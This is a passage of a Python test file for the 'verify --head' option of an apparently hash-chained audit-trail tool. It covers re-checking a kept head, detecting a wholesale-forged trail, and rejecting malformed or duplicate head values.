# --- verify --head ----------------------------------------------------------------------------


def printed_head(result: subprocess.CompletedProcess[str]) -> str:
    lines = [line for line in result.stdout.splitlines() if line.startswith("head: --head ")]
    assert len(lines) == 1, result.stdout
    return lines[0].removeprefix("head: --head ")


def test_verify_prints_the_head_to_keep_and_checks_it_later(trail: Path) -> None:
    first = run("verify", "--db", str(trail), cwd=trail.parent)
    assert first.returncode == 0, first.stderr
    head = printed_head(first)
    row, digest = head.split(":")
    assert re.fullmatch(r"[0-9a-f]{64}", digest)
    later = run("verify", "--head", head, "--db", str(trail), cwd=trail.parent)
    assert later.returncode == 0, later.stderr
    assert f"kept head matched: row {row}" in later.stdout
    assert int(printed_head(later).split(":")[0]) > int(row)  # the first verify's own rows came after it


def test_verify_with_a_kept_head_fails_on_a_trail_forged_wholesale(trail: Path, tmp_path: Path) -> None:
    head = printed_head(run("--read-only", "verify", "--db", str(trail), cwd=trail.parent))
    forged = tmp_path / "forged.db"
    prepare(forged, sample_events())  # same shape, every hash valid, none the original's
    trail.write_bytes(forged.read_bytes())
    assert run("--read-only", "verify", "--db", str(trail), cwd=trail.parent).returncode == 0
    caught = run("--read-only", "verify", "--head", head, "--db", str(trail), cwd=trail.parent)
    assert caught.returncode == 3, caught
    row = head.split(":")[0]
    assert f"chain BROKEN at row {row}" in caught.stdout
    assert "(the trail was rewritten)" in caught.stdout


def test_a_malformed_head_is_bad_usage(trail: Path) -> None:
    result = run("verify", "--head", "12:abc", "--db", str(trail), cwd=trail.parent)
    assert_one_error_line(result, 2, "bad head '12:abc'", "ID:HASH")


@pytest.mark.parametrize("head", ["9223372036854775808:" + "0" * 64, "\u00b2:" + "0" * 64])
def test_a_head_id_that_is_no_row_id_is_bad_usage(trail: Path, head: str) -> None:
    result = run("--read-only", "verify", "--head", head, "--db", str(trail), cwd=trail.parent)
    assert_one_error_line(result, 2, f"bad head {head!r}", "ID:HASH")


def test_a_head_given_twice_is_named_once(trail: Path) -> None:
    head = printed_head(run("--read-only", "verify", "--db", str(trail), cwd=trail.parent))
    row = head.split(":")[0]
    result = run("--read-only", "verify", "--head", head, "--head", head, "--db", str(trail), cwd=trail.parent)
    assert result.returncode == 0, result
    assert f"kept head matched: row {row}\n" in result.stdout
